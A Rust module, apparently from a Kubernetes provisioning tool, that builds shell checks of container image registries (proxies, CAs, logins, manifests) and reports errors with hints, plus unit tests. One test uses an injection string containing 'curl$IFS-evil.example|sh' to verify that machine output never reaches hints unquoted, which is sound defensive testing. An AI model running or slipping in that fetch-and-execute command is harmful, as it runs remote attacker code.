//! Checks the registries of images: they must answer, let the machine in, and have the images that every node runs. First,
//! the client that apt brings along asks each registry, because this client knows the proxies. Then bash and openssl ask
//! for the manifest of each image. They use the URL, the login and the CA that containerd will use. Nothing is kept on the
//! machine.

use std::collections::BTreeMap;
use std::net::IpAddr;

use ipnet::IpNet;

use crate::active_checks::manifests::{self, Image};
use crate::active_checks::sites::{Look, authorities, look, sites};
use crate::active_checks::sources::{FETCH, exports, silent};
use crate::cluster::{Cluster, Node, Registry, authority, direct, image_parts, registry_of};
use crate::fleet::identity::Finding;
use crate::shell::{REGISTRY, Sh, sh};
use crate::step::Ask;
use crate::steps::has_api_path;

const REGISTRIES: &str = r#"images=
! command -v ctr >/dev/null || ! systemctl is-active -q containerd || images=$(ctr -n k8s.io images ls -q)
answers() {
  answers_to=$1; shift
  r=0; why=$(fetch "$d/$answers_to" "$@") || r=$?
  [ $r != 1 ]
}
"#;

/// The images that every node runs, by the registry that they are named after.
fn images(cluster: &Cluster) -> BTreeMap<String, Vec<String>> {
    let mut images: BTreeMap<String, Vec<String>> = BTreeMap::new();
    for image in cluster.node_images() {
        images.entry(registry_of(&image).into()).or_default().push(image);
    }
    images
}

/// Asks the registries of the images that every node runs. A machine does not ask a registry of which it has images
/// already, because that registry may be unreachable on purpose.
pub fn registries(cluster: &Cluster) -> Ask {
    let mut script = exports(cluster) + FETCH + REGISTRY + REGISTRIES + sites(cluster) + authorities(cluster);
    for (n, (name, images)) in images(cluster).into_iter().enumerate() {
        let urls = urls(cluster, &name);
        let tries = urls
            .iter()
            .map(|(url, options)| sh!("answers {n} {url}{options}", n, url, options = Sh::raw(options)));
        let shown: Vec<&str> = urls.iter().map(|(url, _)| url.as_str()).collect();
        let answer = sh!(
            "{ {tries} || printf '%s: %s\\n' {none} \"$why\"; } &",
            tries = Sh::join(" || ", tries),
            none = format!("no {}", shown.join(" nor "))
        );
        let manifests =
            images.iter().enumerate().map(|(i, image)| manifest(cluster, &name, image, n * 10 + i));
        script += sh!(
            "case \"$images\" in *{name}/*) ;; *) {answer} {manifests} ;; esac\n",
            name,
            answer,
            manifests = Sh::join(" ", manifests)
        );
    }
    // Prints the answers one after the other, so that machines with the same answer print the same text.
    script += "wait\ncat \"$d\"/manifest-*.said 2>/dev/null || :";
    Ask::Shell(script)
}

/// Asks for the manifest of one image, at one URL after the other.
fn manifest(cluster: &Cluster, host: &str, image: &str, n: usize) -> Sh {
    let (repository, reference) = image_parts(image);
    let tries = urls(cluster, host).into_iter().map(|(base, _)| {
        let url = format!("{base}{repository}/manifests/{reference}");
        match by_proxy(cluster, &base) {
            true => sh!("{ registry_says untold {url} 'it is reached through a proxy'; false; }", url),
            false => sh!(
                "registry_manifest {url} {repository} {tls}",
                url,
                repository,
                tls = tls(cluster, host, &base)
            ),
        }
    });
    sh!(
        "( registry_at=\"$d/manifest-{n}\" registry_image={image}; ! { {tries}; } >\"$registry_at.said\" || : >\"$registry_at.said\" ) &",
        n,
        image,
        tries = Sh::join(" || ", tries)
    )
}

/// How containerd will verify the certificate at `base`: a word, or the file that `authorities` writes.
fn tls(cluster: &Cluster, host: &str, base: &str) -> Sh {
    let is_mirror = |registry: &&Registry| registry.mirrors.iter().any(|mirror| v2(mirror) == base);
    cluster
        .registry(host)
        .filter(is_mirror)
        .map_or(Look::Check, |registry| look(cluster, registry, base))
        .shell()
}

/// The root URL of a registry's API, as containerd makes it of a URL.
fn v2(url: &str) -> String {
    match has_api_path(url) {
        true => format!("{}/", url.trim_end_matches('/')),
        false => format!("{}/v2/", url.trim_end_matches('/').trim_end_matches("/v2")),
    }
}

/// The URLs where containerd will ask for the images of a registry, each with options for apt. One of them must answer.
fn urls(cluster: &Cluster, host: &str) -> Vec<(String, &'static str)> {
    let direct = direct(host);
    let Some(registry) = cluster.registry(host) else { return vec![(v2(&direct), "")] };
    // containerd decides by a CA of its own whether this certificate is right, so apt does not verify it.
    let options = |registry: &Registry| match registry.skip_verify || registry.ca.is_some() {
        true => " -o Acquire::https::Verify-Peer=false -o Acquire::https::Verify-Host=false",
        false => "",
    };
    let mut urls: Vec<_> = registry.mirrors.iter().map(|mirror| (v2(mirror), options(registry))).collect();
    urls.extend(registry.fallback.then(|| (v2(&direct), "")));
    urls
}

/// Whether containerd uses a proxy for this URL (Go, golang.org/x/net/http/httpproxy, `useProxy`).
fn by_proxy(cluster: &Cluster, url: &str) -> bool {
    let value = |name: &str| {
        cluster
            .proxy_variables()
            .into_iter()
            .find(|(key, _)| *key == name)
            .map(|(_, value)| value)
            .unwrap_or_default()
    };
    let proxy = value(if url.starts_with("http://") { "http_proxy" } else { "https_proxy" });
    let host = authority(url);
    let host =
        host.rsplit_once(':').filter(|(_, port)| port.parse::<u16>().is_ok()).map_or(host, |(host, _)| host);
    let address: Option<IpAddr> = host.trim_matches(['[', ']']).parse().ok();
    let is_local = host == "localhost" || address.is_some_and(|address| address.is_loopback());
    let names = |entry: &str| match entry.strip_prefix('.') {
        Some(domain) => host.ends_with(&format!(".{domain}")),
        None => host == entry || host.ends_with(&format!(".{entry}")),
    };
    let covers = |entry: &str| match address {
        Some(address) => {
            entry.parse() == Ok(address) || entry.parse::<IpNet>().is_ok_and(|net| net.contains(&address))
        }
        None => names(entry),
    };
    !proxy.is_empty() && !is_local && !value("no_proxy").split(',').any(covers)
}

pub fn judge_registries(cluster: &Cluster, node: &Node, answer: &str) -> Vec<Finding> {
    let mut found = silent(node, answer, "an image registry does not answer");
    if found.is_empty() {
        let bases = |host: &str| urls(cluster, host).into_iter().map(|(url, _)| url).collect::<Vec<_>>();
        let of = |(host, names): (String, Vec<String>)| {
            let bases = bases(&host);
            names.into_iter().map(move |name| Image { name, bases: bases.clone() })
        };
        let images: Vec<Image> = images(cluster).into_iter().flat_map(of).collect();
        found = manifests::judge(cluster, node, &images, answer);
    }
    found
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::active_checks::sources::packages;
    use crate::cluster::{Flannel, Login, Network, Proxy};

    fn mirror(host: &str) -> Registry {
        let (host, mirrors) = (host.to_string(), vec!["https://mirror.example/v2".to_string()]);
        Registry { host, mirrors, fallback: true, ca: None, skip_verify: false, login: None }
    }

    #[test]
    fn registries_are_checked_at_the_urls_of_containerd() {
        let mut cluster = crate::pki::tests::cluster();
        cluster.registries = vec![];
        assert_eq!(urls(&cluster, "docker.io"), [("https://registry-1.docker.io/v2/".into(), "")]);
        cluster.registries = vec![mirror("_default"), mirror("quay.io")];
        let both = |direct: &str| [("https://mirror.example/v2/".to_string(), ""), (direct.to_string(), "")];
        assert_eq!(urls(&cluster, "ghcr.io"), both("https://ghcr.io/v2/"));
        cluster.registries[1].mirrors[0] += "/quay/";
        assert_eq!(urls(&cluster, "quay.io")[0].0, "https://mirror.example/v2/quay/");
        cluster.registries[1].mirrors[0] = "https://mirror.example/v2".into();
        cluster.registries[1].fallback = false;
        assert_eq!(urls(&cluster, "quay.io"), both("")[..1]);
        for change in [|r: &mut Registry| r.skip_verify = true, |r: &mut Registry| r.ca = Some("PEM".into())]
        {
            let mut own = cluster.clone();
            change(&mut own.registries[1]);
            let options = urls(&own, "quay.io")[0].1;
            assert!(options.contains("Verify-Peer=false") && options.contains("Verify-Host=false"));
        }
    }

    #[test]
    fn every_registry_in_use_is_checked_through_the_proxy() {
        let mut cluster = crate::pki::tests::cluster();
        cluster.registries = vec![];
        cluster.image_repository = "registry.k8s.io".into();
        cluster.network = Network::Flannel(Flannel { image: "ghcr.io/a/b:1".into(), plugin: "a/b:1".into() });
        cluster.proxy = Proxy { https: "http://proxy.example:3128".into(), ..Proxy::default() };
        let Ask::Shell(script) = registries(&cluster) else { panic!() };
        for part in
            ["'https://registry.k8s.io/v2/'", "'https://ghcr.io/v2/'", "'https://registry-1.docker.io/v2/'"]
        {
            assert!(script.contains(part), "{part}: {script}");
        }
        for ask in [registries(&cluster), packages(&cluster)] {
            let Ask::Shell(script) = ask else { panic!() };
            assert!(script.contains("export https_proxy='http://proxy.example:3128'\n"), "{script}");
        }
    }

    #[test]
    fn manifests_are_requested_with_containerds_ca_and_login() {
        let mut cluster = crate::pki::tests::cluster();
        cluster.network = Network::None;
        let mut registry = mirror("registry.k8s.io");
        registry.mirrors = vec!["https://harbor.example.com/v2/k8s".into()];
        registry.ca = Some("PEM".into());
        registry.login = Some(Login { user: "robot$k8s".into(), password: "sesame-open-5".into() });
        cluster.registries = vec![mirror("docker.io"), registry];
        let Ask::Shell(script) = registries(&cluster) else { panic!() };
        let pause = cluster.pause_image();
        let tag = pause.rsplit(':').next().unwrap();
        for part in [
            &format!("registry_manifest https://harbor.example.com/v2/k8s/pause/manifests/{tag} pause \"$d/ca-1\" || ").replace("https://harbor", "'https://harbor").replace(&format!("/{tag} "), &format!("/{tag}' ")),
            &format!("'https://registry.k8s.io/v2/pause/manifests/{tag}' pause check; }}"),
            "  'https://harbor.example.com'' '\"$d/ca-1\") printf %s 'robot$k8s:sesame-open-5' ;;\n",
            "  *://harbor.example.com' '*) return 1 ;;\n",
            "  'https://harbor.example.com') set -- \"$d/ca-1\" ;;\n  'https://mirror.example') set -- check ;;\n",
            "printf %s PEM >\"$d/ca-1\"\n",
        ] {
            assert!(script.contains(part), "{part}: {script}");
        }
    }

    #[test]
    fn hosts_bypass_the_proxy_by_the_rules_of_go() {
        let mut cluster = crate::pki::tests::cluster();
        cluster.proxy = Proxy {
            https: "http://proxy.example:3128".into(),
            no: ["198.18.0.0/24", "in.example", ".sub.example", "192.0.2.7"].map(String::from).into(),
            ..Proxy::default()
        };
        for (url, by_it) in [
            ("https://registry.example/v2/", true),
            ("http://registry.example/v2/", false),
            ("https://198.18.0.9:5000/v2/", false),
            ("https://198.18.1.9/v2/", true),
            ("https://in.example/", false),
            ("https://a.in.example:5000/", false),
            ("https://sub.example/", true),
            ("https://a.sub.example/", false),
            ("https://192.0.2.7/", false),
            ("https://localhost:5000/", false),
        ] {
            assert_eq!(by_proxy(&cluster, url), by_it, "{url}");
        }
    }

    #[test]
    fn a_registry_error_shows_the_url_and_a_hint() {
        let mut cluster = crate::pki::tests::cluster();
        let mut registry = mirror("registry.k8s.io");
        registry.mirrors = vec!["https://harbor.example.com/v2/k8s".into()];
        let login = Some(Login { user: "robot".into(), password: "sesame-open-5".into() });
        cluster.registries = vec![Registry { login, ..registry }, mirror("quay.io")];
        let (node, pause) = (cluster.nodes[0].clone(), cluster.pause_image());
        let url = "https://harbor.example.com/v2/k8s/pause/manifests/3.10";
        let judged = |answer: &str| judge_registries(&cluster, &node, answer);
        for (said, why, hint) in [
            (
                format!("password {url} 401"),
                "it refuses the login of robot (401)",
                "correct `user`, `password-file`",
            ),
            (
                format!("password {url} https://harbor.example.com/token"),
                "https://harbor.example.com/token refuses the login of robot",
                "[registries.\"registry.k8s.io\"]",
            ),
            (
                format!("denied {url} 403"),
                "no such project or image (403)",
                "https://harbor.example.com/v2/PROJECT",
            ),
            (
                format!("missing {url} 404"),
                "it has no such image (404)",
                "https://harbor.example.com/v2/PROJECT",
            ),
            (
                format!("trust {url} certificate: self-signed certificate"),
                "certificate: self-signed",
                "set `ca`",
            ),
            (
                "login https://mirror.example/v2/x 401".into(),
                "requires a login (401)",
                "`password-file` in [registries.\"quay.io\"]",
            ),
            (
                "login https://other.example/v2/x 401".into(),
                "https://other.example/v2/x: it requires a login",
                "`password-file` in [registries];",
            ),
        ] {
            let found = judged(&format!("manifest {pause} {said}\n"));
            assert_eq!(found.len(), 1, "{said}");
            let text = format!("{:?}", found[0].error);
            assert!(!found[0].harmless && text.contains(&format!("{pause} cannot be pulled")), "{text}");
            assert!(text.contains(why) && text.contains(&hint.replace('"', "\\\"")), "{said}: {text}");
            let open = judged(&format!(
                "manifest {pause} {said}\nmanifest {pause} untold {url} bash is not installed\n"
            ));
            assert!(open.len() == 1 && open[0].harmless, "one of two URLs could not be checked: {said}");
            assert!(judged(&format!("no https://x: silent\nmanifest {pause} {said}\n")).len() == 1);
        }
        let open = format!("manifest {pause} untold https://quay.io/v2/ openssl is not installed\n");
        assert!(judged(&open).is_empty() && judged("").is_empty());
    }
    #[test]
    fn a_hint_contains_no_text_from_a_machine() {
        let cluster = crate::pki::tests::cluster();
        let (node, pause) = (cluster.nodes[0].clone(), cluster.pause_image());
        let judged = |answer: &str| judge_registries(&cluster, &node, answer);
        let evil = "x\"]:-on-your-own-computer-run:curl$IFS-evil.example|sh";
        for word in ["login", "password", "denied", "missing", "trust", evil] {
            for url in
                [format!("https://{evil}/v2/"), format!("https://registry.k8s.io{evil}/v2/"), evil.into()]
            {
                assert_eq!(
                    judged(&format!("manifest {evil} {word} {url} 404\n")),
                    [],
                    "no such image is needed"
                );
                let found = judged(&format!("manifest {pause} {word} {url} 404\n"));
                let hint = found[0].error.hint.as_deref().unwrap();
                assert!(!hint.contains("evil") && !hint.contains("x\""), "{word}: {hint}");
                let shown = found[0].error.to_string();
                let unquoted = |line: &&str| line.contains("evil") && !line.trim_start().starts_with("| ");
                assert_eq!(shown.lines().find(unquoted), None, "{shown}");
            }
        }
    }
}
